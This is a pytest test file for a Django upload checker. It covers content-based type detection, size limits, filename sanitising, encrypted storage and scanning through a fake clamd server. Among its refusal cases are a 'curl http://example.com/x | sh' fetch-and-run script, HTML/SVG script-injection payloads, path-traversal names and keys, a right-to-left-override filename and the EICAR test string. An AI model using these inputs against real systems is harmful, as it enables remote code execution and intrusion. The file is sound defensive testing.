"""approvals.uploads: type by content, size limit, virus scanning over clamd's protocol, encrypted storage."""

from __future__ import annotations

import hashlib
import io
import logging
import re
import socket
import stat
import struct
import threading
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from cryptography.fernet import Fernet
from django.core.exceptions import ImproperlyConfigured
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from approvals import uploads
from core.crypto import DecryptionError
from core.errors import DomainError

MIB = 1024 * 1024
KEY_A = Fernet.generate_key().decode()
KEY_B = Fernet.generate_key().decode()
# The antivirus test file, in two parts so that this source file is not itself reported by a scanner.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- Real files, built here -------------------------------------------------


def make_pdf(padding: int = 0) -> bytes:
    """A one-page PDF with a correct cross-reference table; ``padding`` adds a comment to make it bigger."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    pdf = bytearray(b"%PDF-1.4\n")
    if padding:
        pdf += b"%" + b"x" * padding + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    pdf += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(pdf)


def pdf_of_size(size: int) -> bytes:
    padding = size - len(make_pdf()) - 2
    while len(pdf := make_pdf(padding)) != size:  # the offsets grow by a digit or two with the padding
        padding -= len(pdf) - size
    return pdf


def make_png() -> bytes:
    """One grey pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x80")) + chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    """A baseline JFIF of one 8×8 grey block: every quantiser 1, DC and AC tables of one one-bit code each."""

    def segment(marker: int, payload: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload

    one_code_table = b"\x01" + b"\x00" * 15 + b"\x00"  # one code of length 1, for symbol 0
    return b"".join(
        [
            b"\xff\xd8",
            segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
            segment(0xDB, b"\x00" + b"\x01" * 64),
            segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00"),
            segment(0xC4, b"\x00" + one_code_table),
            segment(0xC4, b"\x10" + one_code_table),
            segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
            b"\x3f",  # DC difference 0, end of block, padded with ones
            b"\xff\xd9",
        ]
    )


@pytest.fixture
def upload_root(upload_root: Path, settings) -> Path:
    """The shared upload folder, with the size limit and the encryption key these tests count bytes and keys by."""
    settings.UPLOAD_MAX_BYTES = 10 * MIB
    settings.FIELD_ENCRYPTION_KEY = KEY_A
    return upload_root


def refusal(upload, **kwargs) -> DomainError:
    with translation.override("en"), pytest.raises(DomainError) as caught:
        uploads.check_upload(upload, **kwargs)
    return caught.value


# --- Checking by content ----------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type", "extension"),
    [
        ("营业执照.pdf", make_pdf(), "application/pdf", "pdf"),
        ("身份证正面.png", make_png(), "image/png", "png"),
        ("身份证反面.jpg", make_jpeg(), "image/jpeg", "jpg"),
    ],
)
def test_a_pdf_a_png_and_a_jpeg_are_accepted(upload_root, name, content, content_type, extension):
    checked = uploads.check_upload(SimpleUploadedFile(name, content, content_type="application/octet-stream"))

    assert checked == uploads.CheckedUpload(
        content=content,
        content_type=content_type,
        extension=extension,
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        original_name=name,
    )
    assert not upload_root.exists()


def test_the_content_decides_the_type_whatever_the_name_says(upload_root):
    pdf = make_pdf()

    as_photo = uploads.check_upload(SimpleUploadedFile("photo.jpg", pdf, content_type="image/jpeg"))
    as_program = uploads.check_upload(io.BytesIO(pdf), original_name="invoice.exe")

    assert (as_photo.content_type, as_photo.extension, as_photo.download_name) == (
        "application/pdf",
        "pdf",
        "photo.pdf",
    )
    assert (as_program.content_type, as_program.extension) == ("application/pdf", "pdf")
    assert (as_program.original_name, as_program.download_name) == ("invoice.exe", "invoice.pdf")


PROGRAM_MESSAGE = "Programs and scripts cannot be uploaded. Allowed: PDF, JPEG, PNG files of at most 10 MB."
TYPE_MESSAGE = (
    "This type of file cannot be uploaded; the type is judged by the file's content, not its name. "
    "Allowed: PDF, JPEG, PNG files of at most 10 MB."
)
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
MACOS_PROGRAM = b"\xcf\xfa\xed\xfe\x0c\x00\x00\x01" + b"\x00" * 24
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.com/x | sh\n"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG_IMAGE = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ZIP_ARCHIVE = b"PK\x03\x04" + b"\x00" * 26


@pytest.mark.parametrize(
    ("name", "content", "code", "message"),
    [
        ("申请表.pdf", WINDOWS_PROGRAM, "upload_executable", PROGRAM_MESSAGE),
        ("申请表.pdf", LINUX_PROGRAM, "upload_executable", PROGRAM_MESSAGE),
        ("申请表.pdf", MACOS_PROGRAM, "upload_executable", PROGRAM_MESSAGE),
        ("申请表.pdf", SHELL_SCRIPT, "upload_executable", PROGRAM_MESSAGE),
        ("photo.png", HTML_PAGE, "upload_type_not_allowed", TYPE_MESSAGE),
        ("photo.png", SVG_IMAGE, "upload_type_not_allowed", TYPE_MESSAGE),
        ("scan.pdf", ZIP_ARCHIVE, "upload_type_not_allowed", TYPE_MESSAGE),
        ("scan.pdf", b"  %PDF-1.4 not at the start", "upload_type_not_allowed", TYPE_MESSAGE),
        ("scan.pdf", b"", "upload_empty", "The file is empty. Allowed: PDF, JPEG, PNG files of at most 10 MB."),
    ],
)
def test_programs_scripts_other_types_and_empty_files_are_refused(upload_root, name, content, code, message):
    error = refusal(SimpleUploadedFile(name, content, content_type="application/pdf"))

    assert (error.code, str(error.message)) == (code, message)
    assert not upload_root.exists()


def test_a_file_over_the_limit_is_refused_and_one_at_the_limit_accepted(settings, upload_root):
    settings.UPLOAD_MAX_BYTES = 1 * MIB
    at_limit, over_limit = pdf_of_size(MIB), pdf_of_size(MIB + 1)
    assert (len(at_limit), len(over_limit)) == (MIB, MIB + 1)

    error = refusal(SimpleUploadedFile("scan.pdf", over_limit))
    checked = uploads.check_upload(SimpleUploadedFile("scan.pdf", at_limit))

    assert (error.code, str(error.message)) == (
        "upload_too_large",
        "The file is larger than 1 MB. Allowed: PDF, JPEG, PNG files of at most 1 MB.",
    )
    assert checked.size == MIB
    assert not upload_root.exists()


class CountingStream(io.BytesIO):
    """A stream of unknown size that counts what is read from it."""

    bytes_read = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.bytes_read += len(data)
        return data


def test_an_oversized_stream_is_not_read_beyond_the_limit(settings, upload_root):
    settings.UPLOAD_MAX_BYTES = 1 * MIB
    stream = CountingStream(make_pdf(padding=5 * MIB))

    error = refusal(stream, original_name="scan.pdf")

    assert error.code == "upload_too_large"
    assert stream.bytes_read == MIB + 1


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("C:\\Users\\王\\Desktop\\身份证.pdf", "身份证.pdf"),
        ("../../etc/passwd", "passwd"),
        ("scan\x00\r\n.pdf", "scan.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # a right-to-left override would show it as "invoiceexe.pdf"
        ("  ..hidden.pdf  ", "hidden.pdf"),
        ("a" * 200 + ".pdf", "a" * 116 + ".pdf"),
        ("", "upload"),
        ("../", "upload"),
    ],
)
def test_the_original_name_is_kept_only_as_a_harmless_label(upload_root, given, kept):
    checked = uploads.check_upload(make_pdf(), original_name=given)

    assert checked.original_name == kept


# --- Storage ----------------------------------------------------------------


def test_a_stored_file_comes_back_and_is_encrypted_private_and_outside_the_web_root(settings, upload_root):
    content = make_pdf() + "王小明 身份证 330106198805120314".encode()

    key = uploads.store(content)

    assert re.fullmatch(r"([0-9a-f]{2})/\1[0-9a-f]{30}", key)
    path = upload_root / key
    on_disk = path.read_bytes()
    assert uploads.load(key) == content
    assert b"330106198805120314" not in on_disk
    assert b"%PDF" not in on_disk
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(upload_root.stat().st_mode) == 0o700
    assert sorted(p.name for p in path.parent.iterdir()) == [path.name]  # no temporary file left behind
    assert upload_root.resolve() != Path(settings.MEDIA_ROOT).resolve()


def test_two_stores_of_the_same_content_get_different_keys_and_different_bytes(upload_root):
    first, second = uploads.store(b"same"), uploads.store(b"same")

    assert first != second
    assert (upload_root / first).read_bytes() != (upload_root / second).read_bytes()


@pytest.mark.parametrize(
    "key",
    [
        "../x",
        "/etc/passwd",
        "ab/../../../etc/passwd",
        "ab/ab" + "0" * 29 + "/",
        "AB/AB" + "0" * 30,
        "00/ff" + "0" * 30,  # the folder is the name's first two digits
        "ab/ab" + "0" * 30 + "\n",
        "ab\\ab" + "0" * 30,
        "",
    ],
)
def test_a_key_that_store_cannot_have_made_is_refused(upload_root, key):
    with pytest.raises(uploads.InvalidStorageKey):
        uploads.load(key)
    with pytest.raises(uploads.InvalidStorageKey):
        uploads.delete(key)


def test_delete_removes_the_file_and_may_be_repeated(upload_root):
    key = uploads.store(b"content")

    uploads.delete(key)
    uploads.delete(key)

    assert not (upload_root / key).exists()
    with pytest.raises(FileNotFoundError):
        uploads.load(key)


def test_after_a_key_rotation_old_files_still_load(settings, upload_root):
    old = uploads.store(b"stored under A")
    settings.FIELD_ENCRYPTION_KEY = f"{KEY_B},{KEY_A}"
    new = uploads.store(b"stored under B")

    assert uploads.load(old) == b"stored under A"
    assert uploads.load(new) == b"stored under B"
    settings.FIELD_ENCRYPTION_KEY = KEY_A
    with pytest.raises(DecryptionError):
        uploads.load(new)


# --- Scanning ---------------------------------------------------------------


def test_without_clamd_uploads_are_accepted_and_the_log_says_once_they_are_not_scanned(upload_root, caplog):
    uploads._warn_not_scanned.cache_clear()

    with caplog.at_level(logging.WARNING, logger="approvals.uploads"):
        uploads.check_upload(make_pdf(), original_name="a.pdf")
        uploads.check_upload(make_png(), original_name="b.png")

    assert [record.getMessage() for record in caplog.records] == [
        "Uploads are not virus-scanned: set CLAMD_ADDRESS to a clamd with signatures."
    ]


def _read_exactly(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        more = connection.recv(size - len(data))
        if not more:
            raise ConnectionError("the client hung up mid-stream")
        data += more
    return data


class FakeClamd:
    """Stands in for clamd, which is not installed on this machine: the same INSTREAM framing and replies.

    It reads "zINSTREAM\\0", then chunks each after its 4-byte big-endian length
    until a zero length, and answers "stream: OK\\0", or "stream: <signature>
    FOUND\\0" for a stream holding the EICAR string (real clamd's rule is narrower:
    the string at the start of a file), or with ``error`` set "<error> ERROR\\0".
    """

    def __init__(self, listener: socket.socket, address: str) -> None:
        self.listener = listener
        self.address = address
        self.error = ""
        self.commands: list[bytes] = []
        self.streams: list[bytes] = []
        self.chunk_counts: list[int] = []
        self._stop = threading.Event()
        listener.settimeout(0.1)
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.listener.close()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.listener.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(5)
                self._answer(connection)

    def _answer(self, connection: socket.socket) -> None:
        command = b""
        while not command.endswith(b"\0"):
            command += _read_exactly(connection, 1)
        self.commands.append(command)
        stream = bytearray()
        chunks = 0
        while length := struct.unpack("!I", _read_exactly(connection, 4))[0]:
            stream += _read_exactly(connection, length)
            chunks += 1
        self.streams.append(bytes(stream))
        self.chunk_counts.append(chunks)
        if self.error:
            connection.sendall(f"{self.error} ERROR\0".encode())
        elif EICAR in stream:
            connection.sendall(b"stream: Eicar-Test-Signature FOUND\0")
        else:
            connection.sendall(b"stream: OK\0")


@pytest.fixture(params=["tcp", "unix"])
def clamd(request, settings, upload_root, tmp_path) -> Iterator[FakeClamd]:
    if request.param == "tcp":
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.bind(("127.0.0.1", 0))
        address = f"tcp://127.0.0.1:{listener.getsockname()[1]}"
    else:
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(str(tmp_path / "clamd.ctl"))
        address = f"unix://{tmp_path / 'clamd.ctl'}"
    listener.listen()
    fake = FakeClamd(listener, address)
    settings.UPLOAD_SCANNER = "approvals.uploads.ClamdScanner"
    settings.CLAMD_ADDRESS = address
    settings.CLAMD_TIMEOUT = 5
    yield fake
    fake.close()


def test_a_file_clamd_finds_clean_is_accepted_after_being_streamed_whole(clamd):
    content = make_pdf(padding=200_000)  # several 64 KiB chunks

    checked = uploads.check_upload(content, original_name="scan.pdf")

    assert checked.content_type == "application/pdf"
    assert clamd.commands == [b"zINSTREAM\0"]
    assert clamd.streams == [content]
    assert clamd.chunk_counts == [4]


def test_a_file_clamd_finds_infected_is_refused(clamd, upload_root):
    error = refusal(make_pdf() + EICAR, original_name="scan.pdf")

    assert (error.code, str(error.message)) == (
        "upload_infected",
        "The virus scanner found Eicar-Test-Signature in the file, so it was not accepted.",
    )
    assert not upload_root.exists()


SCAN_FAILED_MESSAGE = (
    "The file could not be checked for viruses just now, so it was not accepted. Please try again later."
)


def test_a_file_clamd_cannot_scan_is_refused_not_accepted_unscanned(clamd, upload_root):
    clamd.error = "INSTREAM size limit exceeded."

    error = refusal(make_pdf(), original_name="scan.pdf")

    assert (error.code, str(error.message)) == ("upload_scan_failed", SCAN_FAILED_MESSAGE)
    assert len(clamd.streams) == 1
    assert not upload_root.exists()


def test_when_clamd_is_gone_uploads_are_refused(clamd, upload_root):
    clamd.close()
    if clamd.address.startswith("unix://"):
        Path(clamd.address.removeprefix("unix://")).unlink()

    error = refusal(make_pdf(), original_name="scan.pdf")

    assert (error.code, str(error.message)) == ("upload_scan_failed", SCAN_FAILED_MESSAGE)
    assert clamd.streams == []
    assert not upload_root.exists()


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("unix:///run/clamav/clamd.ctl", (socket.AF_UNIX, "/run/clamav/clamd.ctl")),
        ("tcp://clamav.internal:3310", (socket.AF_INET, ("clamav.internal", 3310))),
        ("tcp://10.0.0.5", (socket.AF_INET, ("10.0.0.5", 3310))),
    ],
)
def test_clamd_addresses_are_read(address, expected):
    assert uploads.parse_clamd_address(address) == expected


@pytest.mark.parametrize(
    "address", ["unix://", "unix://host/path", "tcp://", "tcp://host:notaport", "tcp://host:3310/x"]
)
def test_a_malformed_clamd_address_is_refused(address):
    with pytest.raises(ImproperlyConfigured, match="CLAMD_ADDRESS"):
        uploads.parse_clamd_address(address)
